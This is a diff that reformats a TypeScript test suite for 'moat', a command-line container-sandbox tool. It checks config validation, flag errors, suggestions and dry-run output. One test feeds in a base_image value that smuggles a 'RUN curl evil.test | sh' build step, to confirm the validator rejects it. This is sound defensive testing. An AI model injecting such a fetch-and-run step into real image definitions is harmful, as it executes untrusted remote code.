@@ -37,7 +37,10 @@ async function refused(args: string[], cwd: string, env: NodeJS.ProcessEnv = {})
 }
 
 async function imageExists(tag: string): Promise<boolean> {
-  return execFileP('docker', ['image', 'inspect', tag]).then(() => true, () => false);
+  return execFileP('docker', ['image', 'inspect', tag]).then(
+    () => true,
+    () => false,
+  );
 }
 
 beforeAll(async () => {
@@ -50,32 +53,42 @@ afterAll(async () => {
 });
 
 describe('moat.yaml: refused at moat.yaml:LINE:COL before anything is created', () => {
-  const HINT = '  Fix moat.yaml at the positions above. Editors validate it with the modeline "# yaml-language-server: $schema=<path or URL>/moat.schema.json".\n';
+  const HINT =
+    '  Fix moat.yaml at the positions above. Editors validate it with the modeline "# yaml-language-server: $schema=<path or URL>/moat.schema.json".\n';
 
   it('secrets: and ports: are not supported yet (once accepted and ignored)', async () => {
     const cwd = await workspace('unsupported', { 'moat.yaml': 'secrets:\n  TOKEN: op://vault/item/field\nports:\n  web: 8080\n' });
     const r = await refused(['run', '--', 'true'], cwd);
     expect(r.code).toBe(1);
-    expect(r.stderr).toBe('moat: moat.yaml is invalid (2 problems):\n'
-      + '  moat.yaml:1:1: secrets: secrets: (environment variables filled from secret references) is not supported yet; remove it (moat would otherwise ignore it)\n'
-      + '  moat.yaml:3:1: ports: ports: (exposing container ports) is not supported yet; remove it (moat would otherwise ignore it)\n' + HINT);
+    expect(r.stderr).toBe(
+      'moat: moat.yaml is invalid (2 problems):\n' +
+        '  moat.yaml:1:1: secrets: secrets: (environment variables filled from secret references) is not supported yet; remove it (moat would otherwise ignore it)\n' +
+        '  moat.yaml:3:1: ports: ports: (exposing container ports) is not supported yet; remove it (moat would otherwise ignore it)\n' +
+        HINT,
+    );
   });
 
   it('a base_image that could add build steps', async () => {
     const cwd = await workspace('base-image', { 'moat.yaml': 'name: ok\nbase_image: "debian:bookworm\\nRUN curl evil.test | sh"\n' });
     const r = await refused(['run', '--', 'true'], cwd);
     expect(r.code).toBe(1);
-    expect(r.stderr).toBe('moat: moat.yaml is invalid (1 problem):\n'
-      + '  moat.yaml:2:13: base_image: an image reference has no spaces, line breaks or control characters\n' + HINT);
+    expect(r.stderr).toBe(
+      'moat: moat.yaml is invalid (1 problem):\n' +
+        '  moat.yaml:2:13: base_image: an image reference has no spaces, line breaks or control characters\n' +
+        HINT,
+    );
   });
 
   it('memory "0" (once accepted, then no limit at all) and cpus below the engine\'s minimum', async () => {
     const cwd = await workspace('sizes', { 'moat.yaml': 'container:\n  memory: "0"\n  cpus: 0.001\n' });
     const r = await refused(['run', '--', 'true'], cwd);
     expect(r.code).toBe(1);
-    expect(r.stderr).toBe('moat: moat.yaml is invalid (2 problems):\n'
-      + '  moat.yaml:2:11: container.memory: expected at least 6m (the engine refuses less)\n'
-      + '  moat.yaml:3:9: container.cpus: expected a number of CPUs of at least 0.01, e.g. 2 or 0.5\n' + HINT);
+    expect(r.stderr).toBe(
+      'moat: moat.yaml is invalid (2 problems):\n' +
+        '  moat.yaml:2:11: container.memory: expected at least 6m (the engine refuses less)\n' +
+        '  moat.yaml:3:9: container.cpus: expected a number of CPUs of at least 0.01, e.g. 2 or 0.5\n' +
+        HINT,
+    );
   });
 });
 
@@ -83,11 +96,17 @@ describe('flag values: refused while the command line is read, naming the flag',
   const USAGE = '(add --help for usage)\n';
   const cases: Array<[string[], string]> = [
     [['logs', '-n', 'abc'], "moat: option '-n, --lines <N>' argument 'abc' is invalid. Expected a whole number of 0 or more.\n"],
-    [['trace', '--status', 'bogus'], "moat: option '--status <status>' argument 'bogus' is invalid. Expected a status code (200), a class of codes (4xx) or \"blocked\".\n"],
+    [
+      ['trace', '--status', 'bogus'],
+      "moat: option '--status <status>' argument 'bogus' is invalid. Expected a status code (200), a class of codes (4xx) or \"blocked\".\n",
+    ],
     [['stop', '-t', '1s'], "moat: option '-t, --time <seconds>' argument '1s' is invalid. Expected a whole number from 0 to 3600.\n"],
     [['run', '--cpus', 'abc', '--', 'true'], "moat: option '--cpus <n>' argument 'abc' is invalid. Expected a number, e.g. 1.5.\n"],
     [['run', '--pids', '2k', '--', 'true'], "moat: option '--pids <n>' argument '2k' is invalid. Expected a whole number from 16 to 4194304.\n"],
-    [['deps', 'list', '--type', 'tools'], "moat: option '--type <type>' argument 'tools' is invalid. Allowed choices are runtime, tool, npm, apt, pip, meta.\n"],
+    [
+      ['deps', 'list', '--type', 'tools'],
+      "moat: option '--type <type>' argument 'tools' is invalid. Allowed choices are runtime, tool, npm, apt, pip, meta.\n",
+    ],
   ];
   for (const [args, message] of cases) {
     it(`moat ${args.join(' ')}`, async () => {
@@ -97,15 +116,17 @@ describe('flag values: refused while the command line is read, naming the flag',
     });
   }
 
-  it('--memory with the schema\'s own rule; --allow-host names the flag, not network.rules', async () => {
+  it("--memory with the schema's own rule; --allow-host names the flag, not network.rules", async () => {
     const cwd = await workspace('flags');
     const m = await refused(['run', '--memory', '0', '--', 'true'], cwd);
     expect(m.code).toBe(1);
     expect(m.stderr).toBe('moat: invalid --memory "0": expected at least 6m (the engine refuses less)\n  Example: --memory 2g\n');
     const h = await refused(['run', '--allow-host', 'https://api.example.com/', '--', 'true'], cwd);
     expect(h.code).toBe(1);
-    expect(h.stderr).toBe('moat: invalid --allow-host "https://api.example.com/": host pattern "https://api.example.com/" has a URL scheme; write only the host, e.g. "api.example.com"\n'
-      + '  Example: --allow-host api.example.com (or *.example.com, host:8443)\n');
+    expect(h.stderr).toBe(
+      'moat: invalid --allow-host "https://api.example.com/": host pattern "https://api.example.com/" has a URL scheme; write only the host, e.g. "api.example.com"\n' +
+        '  Example: --allow-host api.example.com (or *.example.com, host:8443)\n',
+    );
   });
 });
 
@@ -130,14 +151,18 @@ describe('did you mean', () => {
     expect(b.code).toBe(2);
     expect(b.stderr).toBe("moat: unknown option '-la'\n  did you mean: moat run -- ls -la\n(add --help for usage)\n");
     const c = await refused(['run', '-e', 'A=1', 'echo', 'hi'], cwd);
-    expect(c.stderr).toBe("moat: too many arguments for 'run'. Expected 1 argument but got 2.\n  did you mean: moat run -e A=1 -- echo hi\n(add --help for usage)\n");
+    expect(c.stderr).toBe(
+      "moat: too many arguments for 'run'. Expected 1 argument but got 2.\n  did you mean: moat run -e A=1 -- echo hi\n(add --help for usage)\n",
+    );
   });
 
   it('a mistyped grant and provider', async () => {
     const cwd = await workspace('grant-typo');
     const a = await refused(['run', '--grant', 'githb', '--', 'true'], cwd);
     expect(a.code).toBe(1);
-    expect(a.stderr).toBe('moat: Unknown grant "githb": there is no provider "githb" (known: github, anthropic, claude, openai, npm).\n  did you mean: --grant github\n');
+    expect(a.stderr).toBe(
+      'moat: Unknown grant "githb": there is no provider "githb" (known: github, anthropic, claude, openai, npm).\n  did you mean: --grant github\n',
+    );
     const b = await refused(['grant', 'githb'], cwd);
     expect(b.code).toBe(1);
     expect(b.stderr).toBe('moat: Unknown credential provider "githb". Known: github, anthropic, claude, openai, npm.\n  did you mean: moat grant github\n');
@@ -155,15 +180,17 @@ describe('runs: dry run, confirmation, no engine', () => {
     expect(r.code).toBe(0);
     const tag = /build (moat-image:[0-9a-f]{20}) from debian:bookworm-slim/.exec(r.stdout)?.[1] ?? '';
     expect(tag, r.stdout).not.toBe('');
-    expect(r.stdout).toBe('Would start a run (dry run: nothing was created):\n'
-      + `  image      build ${tag} from debian:bookworm-slim\n`
-      + '  container  (a generated name): make test\n'
-      + `  workspace  ${cwd} -> /workspace\n`
-      + '  env        TOKEN\n'
-      + '  grants     -\n'
-      + '  network    strict; allowed: api.example.com; denied: -\n'
-      + '  limits     memory 1073741824 bytes, pids 4096\n'
-      + '  approval   3 change(s) of moat.yaml to approve (moat trust show)\n');
+    expect(r.stdout).toBe(
+      'Would start a run (dry run: nothing was created):\n' +
+        `  image      build ${tag} from debian:bookworm-slim\n` +
+        '  container  (a generated name): make test\n' +
+        `  workspace  ${cwd} -> /workspace\n` +
+        '  env        TOKEN\n' +
+        '  grants     -\n' +
+        '  network    strict; allowed: api.example.com; denied: -\n' +
+        '  limits     memory 1073741824 bytes, pids 4096\n' +
+        '  approval   3 change(s) of moat.yaml to approve (moat trust show)\n',
+    );
     expect(r.stdout).not.toContain('hush');
     expect(await imageExists(tag)).toBe(false);
   });
@@ -171,7 +198,9 @@ describe('runs: dry run, confirmation, no engine', () => {
   it('--dry-run is refused where it previews nothing', async () => {
     const r = await refused(['list', '--dry-run'], await workspace('dry'));
     expect(r.code).toBe(2);
-    expect(r.stderr).toBe('moat: --dry-run previews run, claude, codex, stop, destroy and clean, not list.\n  Leave --dry-run out (moat list has no preview).\n');
+    expect(r.stderr).toBe(
+      'moat: --dry-run previews run, claude, codex, stop, destroy and clean, not list.\n  Leave --dry-run out (moat list has no preview).\n',
+    );
   });
 
   it('moat destroy without a name asks (no terminal: refused, nothing removed); --dry-run removes nothing; -y removes', async () => {
@@ -180,16 +209,22 @@ describe('runs: dry run, confirmation, no engine', () => {
     expect(run.code).toBe(0);
     stoppedId = runDirs(home)[0] ?? '';
     // The daemon removes the finished run's container: wait, so the snapshots below compare a settled home.
-    await waitFor(async () => (await containersOf(home)).length === 0, 20_000, 'the finished run\'s container removed');
+    await waitFor(async () => (await containersOf(home)).length === 0, 20_000, "the finished run's container removed");
     const ask = await refused(['destroy'], cwd);
     expect(ask.code).toBe(1);
-    expect(ask.stderr).toBe(`(destroy to-keep, ${stoppedId})\n`
-      + 'moat: moat destroy asks before removing the most recent stopped run (to-keep), and there is no terminal to ask.\n'
-      + '  Name it (moat destroy to-keep) or add -y.\n');
+    expect(ask.stderr).toBe(
+      `(destroy to-keep, ${stoppedId})\n` +
+        'moat: moat destroy asks before removing the most recent stopped run (to-keep), and there is no terminal to ask.\n' +
+        '  Name it (moat destroy to-keep) or add -y.\n',
+    );
     const dry = await refused(['destroy', '--dry-run', 'to-keep'], cwd);
     expect(dry.code).toBe(0);
     // Its container too while the daemon has not removed it yet.
-    expect(dry.stdout).toMatch(new RegExp(`^Would remove \\(dry run: nothing was removed\\):\\n  run to-keep \\(${stoppedId}\\): (its container [0-9a-f]{12} and )?its directory ${join(home, 'runs', stoppedId)}\\n$`));
+    expect(dry.stdout).toMatch(
+      new RegExp(
+        `^Would remove \\(dry run: nothing was removed\\):\\n  run to-keep \\(${stoppedId}\\): (its container [0-9a-f]{12} and )?its directory ${join(home, 'runs', stoppedId)}\\n$`,
+      ),
+    );
     const clean = await refused(['clean', '--dry-run'], cwd);
     // One table style (src/term/table.ts): WHAT, NAME, ID.
     expect(clean.stdout).toMatch(new RegExp(`^Would remove \\(dry run: nothing was removed\\):\\nWHAT +NAME +ID\\nrun +to-keep +${stoppedId}\\n$`));
